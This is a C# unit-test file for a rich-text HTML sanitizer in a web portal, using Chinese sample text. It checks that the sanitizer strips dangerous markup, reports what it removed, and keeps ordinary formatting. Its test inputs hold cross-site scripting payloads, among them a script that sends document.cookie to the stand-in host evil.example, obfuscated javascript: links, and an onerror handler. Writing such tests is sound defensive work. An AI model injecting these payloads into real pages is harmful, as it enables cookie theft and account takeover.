using Portal.Content.Blocks;
using Portal.Tests.Infrastructure;

namespace Portal.Tests.Content;

[UnitTest]
public sealed class SanitizerTests
{
    private readonly RichTextSanitizer sanitizer = new();

    [Theory]
    [InlineData("<p>求助<script>fetch('https://evil.example/?c='+document.cookie)</script></p>", "<p>求助</p>", "script")]
    [InlineData("<p onclick=\"steal()\" onmouseover='steal()'>点击</p>", "<p>点击</p>", "onclick")]
    [InlineData("<a href=\"javascript:steal()\">链接</a>", "<a>链接</a>", "href")]
    [InlineData("<a href=\"  JaVaScRiPt:steal()\">链接</a>", "<a>链接</a>", "href")]
    [InlineData("<a href=\"java&#x09;script:steal()\">链接</a>", "<a>链接</a>", "href")]
    [InlineData("<a href=\"data:text/html;base64,PHNjcmlwdD4=\">链接</a>", "<a>链接</a>", "href")]
    [InlineData("<img src=x onerror=steal()>", "", "img")]
    [InlineData("<svg><script>steal()</script></svg>图", "图", "svg")]
    [InlineData("<p style=\"background:url(javascript:steal())\">样式</p>", "<p>样式</p>", "style")]
    [InlineData("<iframe src=\"https://evil.example\"></iframe>正文", "正文", "iframe")]
    [InlineData("<form action=\"https://evil.example\"><input name=q></form>表单", "表单", "form")]
    public void Dangerous_markup_is_removed_and_reported(string html, string expected, string reported)
    {
        var result = sanitizer.Sanitize(html);

        Assert.Equal(expected, result.Html);
        Assert.Contains(reported, result.Removed);
        Assert.DoesNotContain("steal", result.Html, StringComparison.Ordinal);
    }

    [Fact]
    public void Ordinary_formatting_links_lists_and_tables_are_kept()
    {
        const string html = "<p><strong>重要：</strong>发现线索请拨打 <a href=\"tel:110\">110</a> 或访问 <a href=\"/report\">举报页面</a>。</p>" +
                            "<ul><li>不轻信</li><li>不跟随</li></ul><table><tr><th scope=\"col\">城市</th></tr><tr><td>兰州</td></tr></table>";

        var result = sanitizer.Sanitize(html);

        Assert.Empty(result.Removed);
        Assert.Contains("<a href=\"tel:110\">110</a>", result.Html, StringComparison.Ordinal);
        Assert.Contains("<a href=\"/report\">举报页面</a>", result.Html, StringComparison.Ordinal);
        Assert.Contains("<th scope=\"col\">城市</th>", result.Html, StringComparison.Ordinal);
        Assert.Contains("<li>不跟随</li>", result.Html, StringComparison.Ordinal);
    }

    [Fact]
    public void Text_inside_a_wrapper_that_is_not_allowed_is_kept()
    {
        var result = sanitizer.Sanitize("<font color=red>红色警示</font><section class=\"x\"><p>段落</p></section>");

        Assert.Equal("红色警示<p>段落</p>", result.Html);
        Assert.Contains("font", result.Removed);
    }
}
